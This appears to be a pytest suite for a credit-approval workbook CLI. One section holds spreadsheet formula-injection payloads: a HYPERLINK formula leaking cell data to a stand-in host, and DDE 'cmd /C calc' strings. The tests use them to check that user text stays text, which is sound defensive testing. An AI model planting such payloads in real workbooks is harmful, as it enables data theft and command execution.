"""`creditbook evaluate FILE.xlsm...` as finance runs it: a real subprocess on copies of the examples.

Checks where the output goes, what the Approval sheet and AuditLog say, that everything the workbook
carries besides (VBA, ribbon, dropdowns, styles, names, tables) survives, that formula-looking user
text stays text, that input errors stop with the cell named, and that a batch gives the same
decisions with one or two processes.
"""

from __future__ import annotations

import getpass
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from cli_run import run_evaluate
from lo import needs_soffice
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from creditbook.workbook.layout import (
    APPROVAL_SHEET,
    AUDIT_HEADER_ROW,
    AUDIT_SHEET,
    CONSUMPTION,
    INPUT_SHEETS,
    PROFILE,
)

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "workbook" / "examples"
LISTED = "listed_company.xlsm"
RIBBON_REL = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
RELS_NS = "{http://schemas.openxmlformats.org/package/2006/relationships}"
# The decision labels finance reads on the Approval sheet (中文 / English).
DECISION_LABELS = {
    "approve": "批准 / Approve",
    "approve_reduced": "调减额度批准 / Approve a reduced limit",
    "approve_with_conditions": "附条件批准 / Approve with conditions",
    "counter_offer": "变更授信结构 / Counter-offer",
    "prepaid_only": "仅限预付 / Prepaid only",
}
Payload = dict[str, Any]


# ---------------------------------------------------------------------------------------- helpers
def copy_example(name: str, folder: Path, as_name: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / (as_name or name)
    shutil.copyfile(EXAMPLES / name, target)
    return target


def example_names() -> list[str]:
    return sorted(path.name for path in EXAMPLES.glob("*.xlsm"))


def by_file(stdout: str) -> dict[str, Payload]:
    """The `--json` payload of an evaluate run, keyed by input file name."""
    return {Path(entry["file"]).name: entry for entry in json.loads(stdout)}


def decision_of(result: subprocess.CompletedProcess[str], name: str) -> Payload:
    assert result.returncode == 0, result.stderr
    decision: Payload = by_file(result.stdout)[name]["decision"]
    return decision


def audit_rows(path: Path) -> list[tuple[Any, ...]]:
    """AuditLog rows below the header, oldest first."""
    ws = load_workbook(path)[AUDIT_SHEET]
    rows = ws.iter_rows(min_row=AUDIT_HEADER_ROW + 1, values_only=True)
    return [row for row in rows if any(value is not None for value in row)]


def find_cells(ws: Worksheet, predicate: Callable[[Any], bool]) -> list[Cell]:
    return [cell for row in ws.iter_rows() for cell in row if predicate(cell.value)]


def beside(ws: Worksheet, label: str) -> Cell:
    """The value cell to the right of the one label cell reading `label`."""
    found = find_cells(ws, lambda value: value == label)
    assert len(found) == 1, f"{label!r} found {len(found)} times on {ws.title}"
    cell: Cell = ws.cell(found[0].row, found[0].column + 1)
    return cell


def without_evaluated_at(decision: Payload) -> Payload:
    return {
        **decision,
        "audit": {k: v for k, v in decision["audit"].items() if k != "evaluated_at"},
    }


def set_text(ws: Worksheet, coordinate: str, value: str) -> None:
    """Store `value` as typed text (what Excel keeps for '=... entered with a leading quote)."""
    cell = ws[coordinate]
    cell.value = value
    cell.data_type = "s"


# ---------------------------------------------------------------------------------- where it goes
def test_default_writes_evaluated_copy_beside_input_and_leaves_input_alone(tmp_path: Path) -> None:
    source = copy_example(LISTED, tmp_path)
    before = source.read_bytes()
    result = run_evaluate(source.name, "--json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert source.read_bytes() == before
    output = tmp_path / "listed_company.evaluated.xlsm"
    assert sorted(p.name for p in tmp_path.iterdir()) == [output.name, source.name]
    assert Path(by_file(result.stdout)[source.name]["output"]).name == output.name
    assert len(audit_rows(output)) == len(audit_rows(source)) + 1


def test_out_dir_writes_same_name_there(tmp_path: Path) -> None:
    source = copy_example(LISTED, tmp_path / "in")
    before = source.read_bytes()
    out = tmp_path / "approved" / "2026-11"  # does not exist yet
    result = run_evaluate(source, "--out", out, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert source.read_bytes() == before
    assert [p.name for p in out.iterdir()] == [source.name]
    assert [p.name for p in source.parent.iterdir()] == [source.name]
    assert len(audit_rows(out / source.name)) == len(audit_rows(source)) + 1


def test_in_place_updates_the_input(tmp_path: Path) -> None:
    source = copy_example(LISTED, tmp_path)
    before = source.read_bytes()
    result = run_evaluate(source.name, "--in-place", "--json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert source.read_bytes() != before
    assert [p.name for p in tmp_path.iterdir()] == [source.name]  # no copy, no temp file left
    rows = audit_rows(source)
    assert len(rows) == 1
    assert rows[0][3] == decision_of(result, source.name)["audit"]["fingerprint"]


def test_same_name_from_two_folders_into_one_out_dir_loses_nothing(tmp_path: Path) -> None:
    first = copy_example(LISTED, tmp_path / "north", "application.xlsm")
    second = copy_example("sme_short_history.xlsm", tmp_path / "south", "application.xlsm")
    out = tmp_path / "out"
    result = run_evaluate(first, second, "--out", out, "--json", "--jobs", "1", cwd=tmp_path)
    if result.returncode == 2:  # refusing the clash is a fine answer, if nothing was written
        assert str(first) in result.stderr and str(second) in result.stderr
        assert "Traceback" not in result.stderr
        assert not out.exists() or not any(out.iterdir())
        return
    assert result.returncode == 0, result.stderr
    wanted = {entry["decision"]["audit"]["fingerprint"] for entry in json.loads(result.stdout)}
    assert len(wanted) == 2
    kept = {row[3] for path in out.iterdir() for row in audit_rows(path)}
    assert kept == wanted, f"{len(wanted - kept)} of 2 approvals lost in {sorted(out.iterdir())}"


def test_out_into_the_inputs_own_folder_never_overwrites_it(tmp_path: Path) -> None:
    source = copy_example(LISTED, tmp_path / "a")
    before = source.read_bytes()
    result = run_evaluate(source, "--out", source.parent, cwd=tmp_path)
    assert result.returncode == 2
    assert "--in-place" in result.stderr and "Traceback" not in result.stderr
    assert source.read_bytes() == before


def test_out_and_in_place_together_are_refused(tmp_path: Path) -> None:
    source = copy_example(LISTED, tmp_path)
    before = source.read_bytes()
    result = run_evaluate(source.name, "--out", "elsewhere", "--in-place", cwd=tmp_path)
    assert result.returncode == 2
    assert "--in-place" in result.stderr and "--out" in result.stderr
    assert "Traceback" not in result.stderr
    assert source.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [source.name]


# ---------------------------------------------------------------------------- what it shows
@pytest.fixture(scope="module")
def evaluated_listed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Payload]:
    """(input copy, output, Decision JSON) of the listed company evaluated with --out."""
    folder = tmp_path_factory.mktemp("listed")
    source = copy_example(LISTED, folder / "in")
    result = run_evaluate(source, "--out", folder / "out", "--json", cwd=folder)
    return source, folder / "out" / LISTED, decision_of(result, LISTED)


def test_approval_sheet_shows_the_decision(evaluated_listed: tuple[Path, Path, Payload]) -> None:
    _, output, decision = evaluated_listed
    ws = load_workbook(output)[APPROVAL_SHEET]
    audit = decision["audit"]

    assert (
        beside(ws, "客户 Customer").value == decision["customer_name"] == "上海星河数据股份有限公司"
    )
    assert beside(ws, "审批结论 Decision").value == DECISION_LABELS[decision["decision"]]
    limit = beside(ws, "批准额度 Approved limit")
    assert Decimal(str(limit.value)) == Decimal(str(decision["approved_limit"])) > 0
    assert "¥" in limit.number_format and "#,##0" in limit.number_format  # CNY, grouped
    policy_line = str(beside(ws, "授信政策 Credit policy").value)
    assert f"{audit['policy_id']} {audit['policy_version']}" in policy_line
    assert "official" in policy_line and "⚠" not in policy_line

    assert len(find_cells(ws, lambda v: v == "审批签字 Sign-off")) == 1
    assert beside(ws, "申请人 Applicant").value == "李娜"  # the sales owner applies, not signs
    header = beside(ws, "审批角色 Approver").row
    signers = [ws.cell(header + 1 + i, 2).value for i in range(len(decision["approvals_required"]))]
    assert [str(s).split("\n")[0] for s in signers] == [
        "财务经理 / Finance manager",
        "风控经理 / Risk manager",
    ]
    assert [ws.cell(header, column).value for column in (3, 4, 5, 6)] == [
        "姓名 Name",
        "审批意见 Opinion",
        "日期 Date",
        "签字 Signature",
    ]

    footers = find_cells(ws, lambda v: isinstance(v, str) and v.startswith("审计指纹 "))
    assert len(footers) == 1
    shown = re.match(r"审计指纹 ([0-9a-f]{64}) ", str(footers[0].value))
    assert shown is not None and shown.group(1) == audit["fingerprint"]
    assert beside(ws, "audit.fingerprint").value == audit["fingerprint"]  # the hidden snapshot


def test_audit_log_gains_one_row_per_evaluation(
    evaluated_listed: tuple[Path, Path, Payload], tmp_path: Path
) -> None:
    source, output, first = evaluated_listed
    assert audit_rows(source) == []
    rows = audit_rows(output)
    assert len(rows) == 1
    # Columns from B: evaluated at, by, fingerprint, customer, decision, limit, currency, policy.
    evaluated_at, _, fingerprint, customer, label, limit, currency, policy = rows[0][1:9]
    assert datetime.fromisoformat(evaluated_at) == datetime.fromisoformat(
        first["audit"]["evaluated_at"]
    )
    assert (fingerprint, customer, label, currency) == (
        first["audit"]["fingerprint"],
        first["customer_name"],
        first["decision"],
        first["currency"],
    )
    assert Decimal(str(limit)) == Decimal(str(first["approved_limit"]))
    assert policy == f"{first['audit']['policy_id']} {first['audit']['policy_version']}"

    again = shutil.copyfile(output, tmp_path / LISTED)
    result = run_evaluate(again.name, "--in-place", "--json", cwd=tmp_path)
    second = decision_of(result, LISTED)
    rows_after = audit_rows(again)
    assert len(rows_after) == 2
    assert rows_after[0] == rows[0]  # the first row is never touched
    assert rows_after[1][3] == second["audit"]["fingerprint"] == first["audit"]["fingerprint"]
    approval = load_workbook(again)[APPROVAL_SHEET]
    assert len(find_cells(approval, lambda v: v == "授信审批单 Credit approval")) == 1
    assert len(find_cells(approval, lambda v: v == "申请人 Applicant")) == 1


# ------------------------------------------------------------------------------ preservation
def _validations(ws: Worksheet) -> list[tuple[Any, ...]]:
    return sorted(
        (str(dv.sqref), dv.type, dv.formula1, dv.formula2, dv.operator, dv.allow_blank, dv.error)
        for dv in ws.data_validations.dataValidation
    )


def _tables(path: Path) -> dict[str, tuple[str, str, list[str]]]:
    wb = load_workbook(path)
    return {
        table.name: (ws.title, table.ref, [column.name for column in table.tableColumns])
        for ws in wb.worksheets
        for table in ws.tables.values()
    }


def test_output_keeps_vba_and_ribbon(evaluated_listed: tuple[Path, Path, Payload]) -> None:
    source, output, _ = evaluated_listed
    with zipfile.ZipFile(source) as before, zipfile.ZipFile(output) as after:
        assert after.read("xl/vbaProject.bin") == before.read("xl/vbaProject.bin")
        assert after.read("customUI/customUI.xml") == before.read("customUI/customUI.xml")
        rels = ET.fromstring(after.read("_rels/.rels"))
        targets = {
            rel.get("Target")
            for rel in rels.iter(f"{RELS_NS}Relationship")
            if rel.get("Type") == RIBBON_REL
        }
        assert targets == {"customUI/customUI.xml"}
        wired = ET.fromstring(after.read("xl/_rels/workbook.xml.rels"))
        assert {
            rel.get("Target")
            for rel in wired.iter(f"{RELS_NS}Relationship")
            if rel.get("Type") == VBA_REL
        } == {"vbaProject.bin"}
    # The VBA document modules are bound to the workbook's and sheets' code names.
    wb_before, wb_after = load_workbook(source), load_workbook(output)
    assert wb_after.code_name == wb_before.code_name == "ThisWorkbook"
    code_names = {ws.title: ws.sheet_properties.codeName for ws in wb_before.worksheets}
    assert {ws.title: ws.sheet_properties.codeName for ws in wb_after.worksheets} == code_names


def test_output_keeps_validations_styles_names_and_tables(
    evaluated_listed: tuple[Path, Path, Payload],
) -> None:
    source, output, _ = evaluated_listed
    before, after = load_workbook(source), load_workbook(output)
    for sheet in INPUT_SHEETS:
        kept = _validations(before[sheet.name])
        assert kept, f"{sheet.name} has no data validation to keep"
        assert _validations(after[sheet.name]) == kept, sheet.name

    styles_before = {style.name: style for style in before._named_styles}
    styles_after = {style.name: style for style in after._named_styles}
    assert any(name.startswith("cb_") for name in styles_before)
    for name, style in styles_before.items():
        assert styles_after.get(name) == style, name

    names_before = {name: dn.attr_text for name, dn in before.defined_names.items()}
    assert any(name.startswith("list_") for name in names_before)
    assert {name: dn.attr_text for name, dn in after.defined_names.items()} == names_before

    tables = _tables(source)
    assert {"tblConsumption", "tblRamp", "tblStopLoss"} <= tables.keys()
    assert _tables(output) == tables


# -------------------------------------------------------------------- formula-looking user text
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One evaluated workbook per payload, typed (as text) into customer, sales owner and model."""
    assert PROFILE.form is not None
    folder = tmp_path_factory.mktemp("injected")
    table = CONSUMPTION.tables[0]
    keys = [column.key for column in table.columns]
    model = f"{table.letter(keys.index('model'))}{table.first_data_row}"
    spend = f"{table.letter(keys.index('monthly_spend'))}{table.first_data_row}"
    sources = {}
    for index, payload in enumerate(PAYLOADS):
        path = folder / "in" / f"payload{index}.xlsm"
        copy_example(LISTED, path.parent, path.name)
        wb = load_workbook(path, keep_vba=True)
        set_text(wb[PROFILE.name], PROFILE.form.cell("customer_name"), payload)
        set_text(wb[PROFILE.name], PROFILE.form.cell("sales_owner"), payload)
        set_text(wb[CONSUMPTION.name], model, payload)
        wb[CONSUMPTION.name][spend] = 50000  # not in the price table: its spend is stated
        wb.save(path)
        sources[payload] = path
    result = run_evaluate(*sources.values(), "--out", folder / "out", "--jobs", "1", cwd=folder)
    assert result.returncode == 0, result.stdout + result.stderr
    return {payload: folder / "out" / path.name for payload, path in sources.items()}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_looking_text_stays_text(injected: dict[str, Path], payload: str) -> None:
    wb = load_workbook(injected[payload])
    approval = wb[APPROVAL_SHEET]
    shown = find_cells(approval, lambda value: value == payload)
    assert beside(approval, "客户 Customer") in shown
    assert beside(approval, "申请人 Applicant") in shown  # the sales owner
    assert len(shown) >= 4, [c.coordinate for c in shown]  # + the model in the audit snapshot
    assert [(c.coordinate, c.data_type) for c in shown] == [(c.coordinate, "s") for c in shown]
    formulas = [c.coordinate for row in approval.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    logged = find_cells(wb[AUDIT_SHEET], lambda value: value == payload)  # the customer column
    assert [c.data_type for c in logged] == ["s"]


# --------------------------------------------------------------------------------- input errors
@pytest.mark.parametrize(
    ("key", "bad", "cell"),
    [
        ("requested_limit", "#REF!", "Profile!C21"),  # an error value left by a broken formula
        ("credit_code", "91310000MA1FL7JF8X", "Profile!C6"),  # the check character should be P
    ],
    ids=["ref-error", "bad-credit-code"],
)
def test_input_error_names_the_cell_and_writes_nothing(
    tmp_path: Path, key: str, bad: str, cell: str
) -> None:
    assert PROFILE.form is not None
    assert f"{PROFILE.name}!{PROFILE.form.cell(key)}" == cell  # the layout puts the field there
    source = copy_example(LISTED, tmp_path)
    wb = load_workbook(source, keep_vba=True)
    wb[PROFILE.name][PROFILE.form.cell(key)] = bad  # "#REF!" is stored as an error cell (t="e")
    wb.save(source)
    before = source.read_bytes()
    result = run_evaluate(source.name, cwd=tmp_path)
    assert result.returncode == 2, result.stdout + result.stderr
    assert cell in result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert source.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [source.name]


# ------------------------------------------------------------------------------------ many files
def _batch(folder: Path, count: int) -> list[Path]:
    names = example_names()
    return [
        copy_example(names[i % len(names)], folder, f"{i:02d}_{names[i % len(names)]}")
        for i in range(count)
    ]


def test_two_processes_give_the_same_decisions_as_one(tmp_path: Path) -> None:
    files = _batch(tmp_path / "in", 12)
    one = run_evaluate(*files, "--jobs", "1", "--out", tmp_path / "one", "--json", cwd=tmp_path)
    two = run_evaluate(*files, "--jobs", "2", "--out", tmp_path / "two", "--json", cwd=tmp_path)
    assert one.returncode == 0 and two.returncode == 0, one.stderr + two.stderr
    serial, parallel = by_file(one.stdout), by_file(two.stdout)
    assert sorted(serial) == sorted(parallel) == sorted(p.name for p in files)
    assert len({entry["decision"]["decision"] for entry in serial.values()}) >= 3
    for name in serial:
        assert without_evaluated_at(parallel[name]["decision"]) == without_evaluated_at(
            serial[name]["decision"]
        ), name
    assert sorted(p.name for p in (tmp_path / "two").iterdir()) == sorted(serial)


def test_missing_file_is_reported_and_the_others_evaluated(tmp_path: Path) -> None:
    files: list[Path] = _batch(tmp_path / "in", 12)
    missing = tmp_path / "in" / "not_there.xlsm"
    files.insert(5, missing)
    out = tmp_path / "out"
    result = run_evaluate(*files, "--jobs", "2", "--out", out, cwd=tmp_path)
    assert result.returncode == 2
    assert "not_there.xlsm" in result.stderr and "file not found" in result.stderr
    assert "Traceback" not in result.stderr
    written = sorted(p.name for p in out.iterdir())
    assert written == sorted(p.name for p in files if p != missing)
    for path in files:
        if path != missing:
            assert path.name in result.stdout  # in the summary table
    assert len(audit_rows(out / written[-1])) == 1


# ------------------------------------------------------------------------------------------- pdf
@needs_soffice
def test_pdf_is_written_next_to_the_output(tmp_path: Path) -> None:
    source = copy_example(LISTED, tmp_path / "in")
    out = tmp_path / "out"
    result = run_evaluate(source, "--out", out, "--pdf", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    pdf, annex = out / "listed_company.pdf", out / "listed_company.annex.pdf"
    assert sorted(p.name for p in out.iterdir()) == [annex.name, pdf.name, LISTED]
    assert pdf.read_bytes().startswith(b"%PDF") and annex.read_bytes().startswith(b"%PDF")
    text = subprocess.run(
        ["pdftotext", "-raw", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "上海星河数据股份有限公司" in re.sub(r"\s+", "", text)  # wrapped in its cell


def test_the_evaluator_is_a_person_never_the_system_account(tmp_path: Path) -> None:
    source = tmp_path / LISTED
    shutil.copyfile(EXAMPLES / LISTED, source)
    named = run_evaluate(LISTED, "--out", "named", "--evaluator", "张伟", "--json", cwd=tmp_path)
    decision_of(named, LISTED)
    output = tmp_path / "named" / LISTED
    assert audit_rows(output)[0][2] == "张伟"
    ws = load_workbook(output)[APPROVAL_SHEET]
    assert beside(ws, "评估人 Evaluated by").value == "张伟"
    audit_lines = find_cells(
        ws, lambda v: isinstance(v, str) and v.startswith("audit fingerprint ")
    )
    assert [str(line.value).endswith("by 张伟") for line in audit_lines] == [True]
    zh = find_cells(ws, lambda v: isinstance(v, str) and v.startswith("审计指纹 "))[0].value
    assert zh.endswith("评估人 张伟")

    unnamed = run_evaluate(LISTED, "--out", "unnamed", "--json", cwd=tmp_path)
    decision_of(unnamed, LISTED)
    row = audit_rows(tmp_path / "unnamed" / LISTED)[0]
    assert row[2] in (None, "") and getpass.getuser() not in str(row)
